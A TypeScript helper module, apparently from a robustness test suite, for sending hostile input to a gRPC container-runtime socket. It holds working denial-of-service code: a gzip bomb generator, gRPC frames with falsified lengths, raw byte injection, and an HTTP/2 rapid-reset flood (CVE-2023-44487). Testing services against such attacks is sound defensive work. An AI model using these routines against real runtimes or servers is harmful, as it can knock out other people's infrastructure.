import { type ClientHttp2Session, connect, type IncomingHttpHeaders } from "node:http2";
import { connect as connectSocket } from "node:net";
import { createGzip } from "node:zlib";

import { pause } from "./eventually.ts";
import type { Node } from "./node.ts";
import { within } from "./within.ts";

/** What the headers of a call say; more or others as the attack wants. */
export const callHeaders = {
  ":method": "POST",
  ":path": "/runtime.v1.RuntimeService/Version",
  "content-type": "application/grpc",
  te: "trailers",
};

/** An HTTP/2 connection to the socket of a node that may be closed by the other side. */
export function openSession({ socket }: Pick<Node, "socket">): ClientHttp2Session {
  const client = connect("http://localhost", { createConnection: () => connectSocket(socket) });
  // The other side is expected to close it.
  client.on("error", () => {});
  return client;
}

/** Sends bytes on a connection of its own and waits for its end, or a while. */
export async function sendBytes({ socket: path }: Pick<Node, "socket">, ...parts: readonly Buffer[]): Promise<void> {
  const socket = connectSocket(path);
  socket.on("error", () => {});
  for (const part of parts) socket.write(part);
  await within(1_000, new Promise((resolve) => socket.on("close", resolve)));
  socket.destroy();
}

/** Makes one call whose message is these bytes, and gives its gRPC status, or how it ended without one. */
export async function callWith(
  node: Pick<Node, "socket">,
  message: Buffer,
  headers: Readonly<Record<string, string>> = {},
): Promise<string> {
  const client = openSession(node);
  const { promise, resolve } = Promise.withResolvers<string>();
  const request = client.request({ ...callHeaders, ...headers });
  const settle = (got: IncomingHttpHeaders): void => {
    if (got["grpc-status"] !== undefined) resolve(String(got["grpc-status"]));
  };
  request.on("response", settle);
  request.on("trailers", settle);
  request.on("error", (error) => resolve(error.message));
  request.on("close", () => resolve("closed"));
  request.resume();
  request.end(message);
  const status = (await within(30_000, promise)) ?? "nothing";
  client.destroy();
  return status;
}

/** A message as gRPC frames it: whether it is compressed, its length (or what it says it is), and the bytes. */
export function grpcMessage(payload: Buffer, compressed = 0, length = payload.length): Buffer {
  const head = Buffer.alloc(5);
  head.writeUInt8(compressed, 0);
  head.writeUInt32BE(length, 1);
  return Buffer.concat([head, payload]);
}

/** Zeros that become so many MiB when they are unpacked. */
export async function gzipBomb(mebibytes: number): Promise<Buffer> {
  const gzip = createGzip();
  const chunks: Buffer[] = [];
  gzip.on("data", (chunk: Buffer) => chunks.push(chunk));
  const ended = new Promise<void>((resolve) => gzip.once("end", resolve));
  const zeros = Buffer.alloc(2 ** 20);
  for (let written = 0; written < mebibytes; written++)
    if (!gzip.write(zeros)) await new Promise<void>((resolve) => gzip.once("drain", resolve));
  gzip.end();
  await ended;
  return Buffer.concat(chunks);
}

/** Calls a node and gives each up at once (CVE-2023-44487), `count` times, on new connections when the old ones are closed. Gives how many it took. */
export async function resetRapidly(node: Pick<Node, "socket">, count: number): Promise<number> {
  const burst = 400;
  let connections = 0;
  for (let sent = 0; sent < count;) {
    const client = openSession(node);
    connections += 1;
    while (sent < count && !client.destroyed && !client.closed) {
      for (let index = 0; index < burst && sent < count && !client.destroyed && !client.closed; index++) {
        const request = client.request(callHeaders);
        request.on("error", () => {});
        request.close(8);
        sent += 1;
      }
      await pause(5);
    }
    client.destroy();
  }
  return connections;
}
